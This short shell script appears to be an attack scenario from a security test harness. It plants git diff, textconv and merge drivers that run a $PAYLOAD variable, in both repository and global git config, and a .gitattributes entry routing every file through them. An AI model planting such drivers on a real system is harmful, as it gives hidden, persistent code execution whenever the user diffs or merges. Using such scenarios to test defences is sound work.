#!/bin/sh
# Drivers for diff, textconv and merge, named by a .gitattributes that lands.
. "$(dirname "$0")/lib.sh" <<'AGENT'
for place in --local --global; do
	git config $place diff.evil.textconv "$PAYLOAD; cat #"
	git config $place diff.evil.command "$PAYLOAD #"
	git config $place diff.evil.cachetextconv true
	git config $place diff.external "$PAYLOAD #"
	git config $place merge.evil.driver "$PAYLOAD #"
	git config $place merge.default evil
	git config $place merge.renormalize true
done
echo '* diff=evil merge=evil' | tee .gitattributes .git/info/attributes >/dev/null
seq 100 >folder/other
planted drivers
AGENT
attack
